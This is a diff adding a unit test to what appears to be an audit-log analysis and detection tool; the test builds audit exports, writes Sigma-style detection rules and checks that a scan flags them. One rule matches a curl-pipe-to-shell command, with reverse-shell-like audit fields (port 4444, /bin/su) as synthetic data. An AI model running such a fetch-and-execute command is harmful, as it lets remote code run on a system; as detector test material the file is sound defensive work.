@@ -120,6 +120,27 @@ class Journals(unittest.TestCase):
         self.assertTrue(any(b'MESSAGE=Failed' in raw[e['offset']:e['offset'] + e['length']] for e in found[0]['evidence'] if e['role'] == 'context'))
 
 
+    def test_audit_records_have_the_fields_of_the_audit_log(self):
+        make(self.path('x.export'), '--export', '--audit', '--entries', '5')
+        with open(self.path('x.export'), 'rb') as f:
+            entries = [plain(e) for e in read_export(f.read())]
+        with open(self.path('x.json'), 'w') as f:
+            for e in entries:
+                f.write(json.dumps({k: v[0] if len(v) == 1 else v for k, v in e.items()}) + '\n')
+        rules = {'a2': 'curl http://x/a | sh', 'laddr': '203.0.113.7', 'type': 'SECCOMP', 'SYSCALL': 'execve', 'prog-id': '7'}
+        with open(self.path('r.yml'), 'w') as f:
+            f.write('---\n'.join(f'title: {k}\nlogsource: {{product: linux, service: auditd}}\ndetection: {{s: {{{k}: "{v}"}}, condition: s}}\nlevel: low\n' for k, v in rules.items()))
+        for kind, args in KINDS.items():
+            make(self.path(kind), '--audit', '--entries', '5', *args)
+        for name in (*KINDS, 'x.export', 'x.json'):
+            got = events(self.path(name))
+            self.assertEqual([{k: v for k, v in g.items() if k in e} for g, e in zip(got, entries)], [{k: v for k, v in e.items() if k in g} for g, e in zip(got, entries)], name)
+            if name != 'x.json':  # its objects come out as they stand
+                self.assertEqual([g.get('type') for g in got[5:]], [['SYSCALL'], ['EXECVE'], ['BPF'], ['SOCKADDR'], ['SECCOMP'], None, None], name)
+                self.assertEqual((got[6]['a2'], got[8]['lport'], got[9]['exe']), ([rules['a2']], ['4444'], ['/bin/su']), name)
+            out = subprocess.run([PROGRAM, 'scan', '-q', '-r', self.path('r.yml'), '-o', '-', self.path(name)], check=True, stdout=subprocess.PIPE).stdout
+            self.assertEqual(sorted(json.loads(line)['rule']['title'] for line in out.splitlines()), sorted(rules), name)
+
     def test_findings_are_derived_again_from_a_case(self):
         with open(self.path('r.yml'), 'w') as f:
             f.write('title: guessed\nlogsource: {product: linux, service: sshd}\ndetection: {k: [Failed password], condition: k}\nlevel: low\n')
